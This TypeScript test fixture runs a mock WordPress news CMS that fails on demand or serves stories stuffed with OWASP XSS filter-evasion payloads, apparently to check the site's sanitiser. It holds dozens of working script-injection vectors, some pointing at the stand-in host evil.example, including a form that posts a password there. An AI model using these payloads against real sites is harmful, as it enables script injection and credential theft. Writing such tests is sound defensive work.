/// <reference types="node" />
// A WordPress news CMS that misbehaves on demand, for testing the news pages against a CMS that
// is down, hangs, answers garbage, or is compromised. The site reads it through NEWS_CMS_URL at
// `{url}/{edition}/{region}/wp-json/wp/v2/posts`. It counts the calls it receives.
//
// In `ok-hostile` mode every field a story has carries OWASP filter-evasion vectors beside genuine
// story text: a vector that runs sets `window.__xss` or calls `alert`, and one that loads something
// asks https://evil.example, so a test can tell "nothing executed" from "nothing was checked".
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { isEditionId } from '../../src/config/editions';
import { findRegion, type Region } from '../../src/config/regions';

export type CmsMode = 'ok-hostile' | '503' | 'hang' | 'slow' | 'html' | 'wrong-shape';

export type HostileCms = {
  url: string;
  set(mode: CmsMode): void;
  /** Every request received since the last reset, path and query. */
  calls(): string[];
  reset(): void;
  close(): Promise<void>;
};

/** How long `slow` takes to answer: longer than the site waits for any upstream. */
export const SLOW_ANSWER_MS = 6_000;

const CMS_HTML = '<!doctype html><html><body><h1>Briefly unavailable for scheduled maintenance</h1><script>alert("cms")</script></body></html>';

/** Markers of the garbage modes that must never reach a page. */
export const GARBAGE_MARKERS = ['scheduled maintenance', 'alert("cms")', 'not-a-post-list'];

/** The OWASP XSS filter-evasion cheat sheet's families, each trying to set `window.__xss` or call alert. */
export const XSS_VECTORS: readonly string[] = [
  '<script>window.__xss=true</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<<SCRIPT>window.__xss=true;//<</SCRIPT>',
  '<img src=x onerror="window.__xss=true">',
  '<IMG SRC=/ onerror="alert(1)"></img>',
  '<img """><script>window.__xss=true</script>">',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
  '<IMG SRC=`javascript:window.__xss=true`>',
  '<IMG SRC="jav\tascript:window.__xss=true;">',
  '<svg onload=window.__xss=true></svg>',
  '<svg/onload=alert(1)>',
  '<svg><style><img src=x onerror=window.__xss=true></style></svg>',
  '<body onload=alert(1)>',
  '<details open ontoggle=window.__xss=true><summary>more</summary></details>',
  '<input autofocus onfocus=window.__xss=true>',
  '<video><source onerror="window.__xss=true"></video>',
  '<p onmouseover="window.__xss=true">Hover over this line.</p>',
  '<a href="javascript:window.__xss=true">plain javascript</a>',
  '<a href="  javascript:window.__xss=true">leading spaces</a>',
  '<a href="JaVaScRiPt:window.__xss=true">mixed case</a>',
  '<a href="jav&#x09;ascript:window.__xss=true">encoded tab</a>',
  '<a href="jav&#x0A;ascript:window.__xss=true">encoded newline</a>',
  '<a href="&#106;avascript:window.__xss=true">decimal reference</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss=true">padded decimal</a>',
  '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=true">hex references</a>',
  '<a href="javascript&colon;window.__xss=true">named colon</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9dHJ1ZTwvc2NyaXB0Pg==">data URL</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="https://kingsleague.pro/" onclick="window.__xss=true">own site with a handler</a>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<iframe src="javascript:window.__xss=true"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=true</script>"></iframe>',
  '<iframe src="https://www.youtube.com.evil.example/embed/abc"></iframe>',
  '<base href="javascript:window.__xss=true//">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss=true">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="javascript:window.__xss=true"><button>send</button></form>',
  '<form action="https://evil.example/steal"><input name="password"></form>',
  '<object data="javascript:window.__xss=true"></object>',
  '<object type="text/html" data="https://evil.example/object"></object>',
  '<embed src="javascript:window.__xss=true">',
  '<embed src="https://evil.example/embed.swf">',
  '<link rel="stylesheet" href="https://evil.example/xss.css">',
  "<style>@import 'https://evil.example/xss.css';</style>",
  '<div style="background:url(javascript:window.__xss=true)">styled</div>',
  '<div style="background-image:url(&#1;javascript:window.__xss=true)">styled again</div>',
  '<table background="javascript:window.__xss=true"><tr><td>cell</td></tr></table>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=true>">',
  '<template><script>window.__xss=true</script></template>',
  '<xmp><img src=x onerror=window.__xss=true></xmp>',
  '<isindex action=javascript:alert(1) type=image>',
  '<a href="https://evil.example/" target="_blank">an outside link</a>',
  // Left open, as browsers accept them: each hides whatever follows, so they come last.
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=true>',
  '<svg onload=window.__xss=true>',
];

/** Genuine story text the page must still show, whatever surrounds it. */
export const HOSTILE_STORY = {
  id: 7001,
  slug: 'cometa-real-gana-el-derbi',
  title: 'Cometa Real gana el derbi de la jornada 8',
  excerpt: 'Tres goles en la segunda parte dieron la vuelta al partido.',
  paragraphs: [
    'Iker Iglesias marcó dos goles en los últimos cinco minutos.',
    'El presidente celebró la victoria con la afición en la grada.',
  ],
  caption: 'Iker Iglesias celebra el segundo gol',
  alt: 'Iker Iglesias con los brazos en alto',
  author: 'Lucía Navarro',
  /** A picture on the site itself, so no test depends on the network. */
  image: '/img/generic-og-kl.jpg',
  embed: 'https://www.youtube.com/embed/dQw4w9WgXcQ',
} as const;

/** A story whose slug is Arabic, percent-encoded in lowercase as WordPress stores it. */
export const ARABIC_STORY = {
  id: 7002,
  slug: encodeSlug('فوز-كبير-في-الجولة-الثامنة'),
  title: 'فوز كبير في الجولة الثامنة',
  paragraph: 'سجل الفريق ثلاثة أهداف في الشوط الثاني.',
} as const;

/** A story whose slug keeps accented letters, as a CMS without accent folding stores them. */
export const ACCENTED_STORY = {
  id: 7003,
  slug: encodeSlug('la-remontada-de-muñoz-en-málaga'),
  title: 'La remontada de Muñoz en Málaga',
  paragraph: 'Muñoz firmó un hat-trick en la segunda parte.',
} as const;

/** A story the league links elsewhere, at an address no visitor may be sent to. */
const EXTERNAL_STORY_ID = 7004;

function encodeSlug(text: string): string {
  return encodeURIComponent(text).toLowerCase();
}

// What the short fields carry around their text: markup with handlers (dropped with its text),
// and references that decode to markup (kept as visible text, escaped by the page).
const MARKUP = '<script>window.__xss=true</script><img src=x onerror="window.__xss=true"><svg/onload=alert(1)>';
const TRAILING_SVG = '<svg onload=window.__xss=true>';
const ENCODED_BREAKOUT = '&lt;/script&gt;&lt;script&gt;window.__xss=true&lt;/script&gt;';

function media(id: number, alt: string, caption: string, source: string = HOSTILE_STORY.image) {
  return {
    id,
    source_url: source,
    alt_text: `${MARKUP}${alt}<img src=x onerror=alert(1)>`,
    caption: { rendered: `<p>${MARKUP}${caption}<a href="javascript:window.__xss=true"></a></p>` },
    media_details: {
      width: 1200,
      height: 630,
      sizes: {
        medium: { source_url: source, width: 400, height: 210 },
        evil: { source_url: 'javascript:window.__xss=true', width: 500, height: 263 },
        data: { source_url: 'data:image/svg+xml,<svg onload=alert(1)>', width: 600, height: 315 },
        full: { source_url: source, width: 1200, height: 630 },
      },
    },
  };
}

function author(name: string) {
  return { id: 3, name: `<img src=x onerror=window.__xss=true>${name}<script>alert(1)</script>`, avatar_urls: { 96: 'javascript:alert(1)' } };
}

type Post = Record<string, unknown> & { id: number; slug: string; categories: number[]; date_gmt: string };

/** The region's stories, newest first, in the language asked for. */
function postsFor(region: Region, lang: string): Post[] {
  const { general, featured, external } = region.cmsCategories;
  const at = (hoursAgo: number) => new Date(Date.now() - hoursAgo * 3600_000).toISOString().slice(0, 19);
  const common = (id: number, hoursAgo: number) => ({
    id,
    date: at(hoursAgo),
    date_gmt: at(hoursAgo),
    modified_gmt: at(hoursAgo - 0.5),
    lang,
    link: 'javascript:window.__xss=true',
    guid: { rendered: '"><script>window.__xss=true</script>' },
    author: 3,
    featured_media: id + 100,
  });
  const body = (paragraphs: readonly string[]) =>
    [
      ...paragraphs.map((text) => `<p>${text}</p>`),
      // The one frame the allowlist keeps, with a handler it must lose.
      `<iframe src="${HOSTILE_STORY.embed}" title="Resumen" width="560" height="315" onload="window.__xss=true"></iframe>`,
      ...XSS_VECTORS.map((vector, index) => `<p>Vector ${index}: ${vector}</p>`),
      // Left unclosed at the end, as a truncated post would be.
      '<p>Cut off here <img src=x onerror=window.__xss=true',
    ].join('\n');
  return [
    {
      ...common(HOSTILE_STORY.id, 1),
      slug: HOSTILE_STORY.slug,
      // A title in WordPress's rendering: tags as they were typed, and references for what was escaped.
      title: { rendered: `${MARKUP}${HOSTILE_STORY.title}${TRAILING_SVG}` },
      excerpt: { rendered: `<p>${MARKUP}${HOSTILE_STORY.excerpt} ${ENCODED_BREAKOUT}</p>` },
      content: { rendered: body(HOSTILE_STORY.paragraphs) },
      categories: [general, featured],
      acf: { team_ids: [], player_ids: [], external_url: 'javascript:window.__xss=true' },
      _embedded: {
        author: [author(HOSTILE_STORY.author)],
        'wp:featuredmedia': [media(HOSTILE_STORY.id + 100, HOSTILE_STORY.alt, HOSTILE_STORY.caption)],
      },
    },
    {
      ...common(ARABIC_STORY.id, 2),
      slug: ARABIC_STORY.slug,
      title: { rendered: `${MARKUP}${ARABIC_STORY.title}${TRAILING_SVG}` },
      excerpt: { rendered: `<p>${ARABIC_STORY.paragraph}${MARKUP}</p>` },
      content: { rendered: body([ARABIC_STORY.paragraph]) },
      categories: [general],
      _embedded: {
        author: [author('ليلى الحسيني')],
        'wp:featuredmedia': [media(ARABIC_STORY.id + 100, 'لاعبون يحتفلون', 'احتفال بالهدف')],
      },
    },
    {
      ...common(ACCENTED_STORY.id, 3),
      slug: ACCENTED_STORY.slug,
      title: { rendered: `${ACCENTED_STORY.title}${MARKUP}` },
      excerpt: { rendered: `<p>${ACCENTED_STORY.paragraph}</p>` },
      content: { rendered: body([ACCENTED_STORY.paragraph]) },
      categories: [general],
      _embedded: {
        author: [author('Marta Gil')],
        // A picture only at a script address: the story is shown without one.
        'wp:featuredmedia': [media(ACCENTED_STORY.id + 100, 'Muñoz', 'Muñoz celebra', 'javascript:window.__xss=true')],
      },
    },
    {
      ...common(EXTERNAL_STORY_ID, 4),
      slug: 'la-liga-en-otro-sitio',
      title: { rendered: `La liga en otro sitio${MARKUP}` },
      excerpt: { rendered: '' },
      content: { rendered: '' },
      categories: [external],
      acf: { external_url: 'jav&#x09;ascript:window.__xss=true' },
      _embedded: { author: [author('Redacción')] },
    },
  ];
}

function readList(params: URLSearchParams, name: string): string[] | undefined {
  const value = params.get(name);
  return value === null ? undefined : value.split(',').filter(Boolean);
}

/** WordPress's posts route: category, slug and paging filters, with its paging headers and its 400 past the last page. */
function answerPosts(request: IncomingMessage, response: ServerResponse): void {
  const url = new URL(request.url ?? '/', 'http://cms.invalid');
  const match = /^\/([^/]+)\/([^/]+)\/wp-json\/wp\/v2\/posts$/.exec(url.pathname);
  const edition = match?.[1] ?? '';
  const region = match && isEditionId(edition) ? findRegion(edition, decodeURIComponent(match[2] ?? '')) : undefined;
  const json = (status: number, body: unknown, headers: Record<string, string> = {}): void => {
    response.writeHead(status, { 'content-type': 'application/json; charset=UTF-8', ...headers }).end(JSON.stringify(body));
  };
  if (!region) return json(404, { code: 'rest_no_route', message: 'No route was found matching the URL and request method.', data: { status: 404 } });
  const params = url.searchParams;
  const categories = readList(params, 'categories')?.map(Number);
  const slugs = readList(params, 'slug');
  const perPage = Number(params.get('per_page') ?? '10');
  const page = Number(params.get('page') ?? '1');
  const matching = postsFor(region, params.get('lang') ?? region.newsLanguages[0] ?? 'en').filter(
    (post) => (!categories || post.categories.some((category) => categories.includes(category))) && (!slugs || slugs.includes(post.slug)),
  );
  const totalPages = Math.ceil(matching.length / perPage);
  if (matching.length > 0 && page > totalPages) {
    return json(400, { code: 'rest_post_invalid_page_number', message: 'The page number requested is larger than the number of pages available.', data: { status: 400 } });
  }
  json(200, matching.slice((page - 1) * perPage, page * perPage), { 'X-WP-Total': String(matching.length), 'X-WP-TotalPages': String(totalPages) });
}

/** Starts the CMS on 127.0.0.1 at a free port, in `ok-hostile` mode. */
export async function startHostileCms(): Promise<HostileCms> {
  let mode: CmsMode = 'ok-hostile';
  const seen: string[] = [];
  const held = new Set<ServerResponse>();

  const server: Server = createServer((request, response) => {
    seen.push(request.url ?? '/');
    switch (mode) {
      case '503':
        response.writeHead(503, { 'content-type': 'application/json', 'retry-after': '120' }).end('{"code":"maintenance","data":{"status":503}}');
        return;
      case 'hang':
        held.add(response);
        return;
      case 'slow': {
        held.add(response);
        const timer = setTimeout(() => {
          held.delete(response);
          if (!response.destroyed) answerPosts(request, response);
        }, SLOW_ANSWER_MS);
        response.once('close', () => clearTimeout(timer));
        return;
      }
      case 'html':
        response.writeHead(200, { 'content-type': 'text/html; charset=UTF-8' }).end(CMS_HTML);
        return;
      case 'wrong-shape':
        response.writeHead(200, { 'content-type': 'application/json' }).end('{"not-a-post-list":true,"posts":{"id":"seven"},"total":"many"}');
        return;
      default:
        answerPosts(request, response);
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    url: `http://127.0.0.1:${port}`,
    set(next) {
      mode = next;
    },
    calls: () => [...seen],
    reset: () => {
      seen.length = 0;
    },
    close: () =>
      new Promise<void>((resolve) => {
        for (const response of held) response.destroy();
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
